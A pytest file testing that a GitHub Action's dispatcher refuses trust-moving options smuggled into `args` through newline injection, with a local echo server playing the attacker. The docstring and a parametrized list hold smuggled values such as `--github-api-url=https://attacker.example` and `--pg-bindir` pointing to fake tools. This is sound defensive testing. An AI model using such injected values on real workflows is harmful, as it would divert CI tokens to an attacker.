"""The root action's dispatcher (scripts/action-run.sh, as action.yml runs it): `args` cannot move trust.

A caller who writes ``args: --environment=${{ github.event.inputs.env }}`` lets a newline in that value add a word,
e.g. ``--github-api-url=https://attacker.example``. Options that decide where credentials go or what runs with them
are refused there unless the configuration (the action's `config` input, from the trusted ref) allows them; and in
Actions the GitHub API URL is the runner's own unless configured. The "attacker" is a local echo server: with the
old dispatcher it received the token.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from hotfix_actions.config.security import TRUST_OPTIONS
from tests.echo_server import EchoServer
from tests.runner_commands import commands_in

ROOT = Path(__file__).resolve().parents[1]
TOKEN = "ghs_dispatchT0ken1234567890abcdef"


@pytest.fixture
def server() -> Iterator[EchoServer]:
    echo = EchoServer()
    try:
        yield echo
    finally:
        echo.stop()


def dispatch(
    cwd: Path, command: str, args: str, *, extra: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    (cwd / "out").touch()
    (cwd / "summary").touch()
    env = {
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(cwd),
        "GIT_CONFIG_GLOBAL": os.environ.get("GIT_CONFIG_GLOBAL", "/dev/null"),
        "GITHUB_ACTIONS": "true",
        "GITHUB_OUTPUT": str(cwd / "out"),
        "GITHUB_STEP_SUMMARY": str(cwd / "summary"),
        "GITHUB_API_URL": "https://api.github.com",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "acme/shop",
        "HOTFIX_GITHUB_TOKEN": TOKEN,
        "HOTFIX_ACTION_COMMAND": command,
        "HOTFIX_ACTION_ARGS": args,
        **(extra or {}),
    }
    return subprocess.run(
        ["bash", str(ROOT / "scripts" / "action-run.sh")],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def interpolated(value: str) -> str:
    """What `args: --environment=${{ inputs.env }}` becomes when the caller's value carries a newline."""
    return f"--environment={value}\n"


def test_a_newline_in_an_interpolated_value_cannot_redirect_the_token(tmp_path: Path, server: EchoServer) -> None:
    args = interpolated(f"production\n--github-api-url={server.url}")
    proc = dispatch(tmp_path, "deployment last-successful", args)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert server.requests == []  # nothing was sent, token or not
    assert "--github-api-url cannot be given through the action's args" in proc.stdout
    assert "security.allow_args" in proc.stdout
    assert [c.name for c in commands_in(proc.stdout)][-1] == "error"


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("validate", "--config=evil.yml"),
        ("validate", "--github-server-url=http://127.0.0.1:9"),
        ("validate", "--repo=/tmp"),
        ("deployment last-successful", "--environment=production\n--github-repository=attacker/repo"),
        ("db backup", "--pg-bindir=EVIL"),
        ("db backup", "--database-url=postgresql://x@127.0.0.1:9/db"),
        ("canary", "--deployment=shop\n--prometheus-url=http://127.0.0.1:9"),
        ("canary", "--deployment=shop\n--replay=polls.jsonl"),
        ("rollback", "--deployment=shop\n--kubeconfig=EVIL/kubeconfig"),
        ("rollback", "--deployment=shop\n--kubeconfig-data=eA=="),
        ("rollback", "--deployment=shop\n--context=staging"),
    ],
)
def test_every_option_that_moves_trust_is_refused_through_args(tmp_path: Path, command: str, args: str) -> None:
    evil = tmp_path / "evil"
    evil.mkdir()
    (tmp_path / "polls.jsonl").write_text('{"at": 0}\n')
    marker = tmp_path / "ran"
    for tool in ("pg_dump", "pg_restore", "psql", "pg_config"):
        (evil / tool).write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
        (evil / tool).chmod(0o755)
    proc = dispatch(tmp_path, command, args.replace("EVIL", str(evil)))
    assert proc.returncode == 2, proc.stdout + proc.stderr
    option = args.splitlines()[-1].split("=", 1)[0]
    assert f"{option} cannot be given through the action's args" in proc.stdout
    assert not marker.exists()


def test_the_list_of_options_is_complete() -> None:
    """Every option named in TRUST_OPTIONS is a real option of some command (a renamed option must not slip out)."""
    import importlib

    import click

    from hotfix_actions.cli import COMMANDS

    names: set[str] = set()

    def walk(cmd: click.Command) -> None:
        if isinstance(cmd, click.Group):
            for sub in cmd.commands.values():
                walk(sub)
            return
        names.update(p.name for p in cmd.params if p.name)

    for module, _ in COMMANDS.values():
        walk(importlib.import_module(module).command)
    assert set(TRUST_OPTIONS) <= names
    assert {"github_api_url", "config_path", "pg_bindir", "prometheus_url"} <= set(TRUST_OPTIONS)


def test_the_trusted_configuration_can_allow_an_option_and_a_url(tmp_path: Path, server: EchoServer) -> None:
    config = tmp_path / "trusted.yml"
    config.write_text(
        f"security:\n  allow_args: ['--github-api-url']\n  github_api_urls: ['{server.url}']\n", encoding="utf-8"
    )
    args = f"--environment=production\n--github-api-url={server.url}"
    proc = dispatch(tmp_path, "deployment last-successful", args, extra={"HOTFIX_CONFIG": str(config)})
    assert server.requests, proc.stdout + proc.stderr  # allowed: the request went where the config said
    assert proc.returncode == 3  # the echo server answers 500


def test_allowed_in_args_but_not_the_runners_url(tmp_path: Path, server: EchoServer) -> None:
    config = tmp_path / "trusted.yml"
    config.write_text("security:\n  allow_args: ['--github-api-url']\n", encoding="utf-8")
    args = f"--environment=production\n--github-api-url={server.url}"
    proc = dispatch(tmp_path, "deployment last-successful", args, extra={"HOTFIX_CONFIG": str(config)})
    assert proc.returncode == 2 and server.requests == []
    assert "is not this runner's GITHUB_API_URL (https://api.github.com)" in proc.stdout


def test_a_config_on_the_command_line_cannot_allow_itself(tmp_path: Path) -> None:
    (tmp_path / "mine.yml").write_text("security:\n  allow_args: ['--config']\n", encoding="utf-8")
    proc = dispatch(tmp_path, "config show", "--config=mine.yml")
    assert proc.returncode == 2 and "--config cannot be given" in proc.stdout


def test_ordinary_args_still_work(tmp_path: Path) -> None:
    proc = dispatch(tmp_path, "notify", "--event=promoted\n--version=1.2.3\n--reason=all good")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "no webhook configured" in proc.stdout


def test_in_actions_the_api_url_is_the_runners_unless_configured(tmp_path: Path, server: EchoServer) -> None:
    """Without the dispatcher too: a command line in a workflow step cannot send the token elsewhere."""
    env = {
        **os.environ,
        "GITHUB_ACTIONS": "true",
        "GITHUB_API_URL": "https://api.github.com",
        "GITHUB_REPOSITORY": "acme/shop",
        "HOTFIX_GITHUB_TOKEN": TOKEN,
    }
    env.pop("GITHUB_OUTPUT", None)
    argv = [sys.executable, "-m", "hotfix_actions", "deployment", "last-successful", "--environment=production",
            f"--github-api-url={server.url}"]  # fmt: skip
    proc = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 2 and server.requests == [], proc.stdout
    env["GITHUB_API_URL"] = server.url  # the runner's own (as on GitHub Enterprise Server): allowed
    proc = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60, check=False)
    assert server.requests and proc.returncode == 3
    shown = [line for line in (proc.stdout + proc.stderr).splitlines() if not line.startswith("::add-mask::")]
    assert TOKEN not in "\n".join(shown)
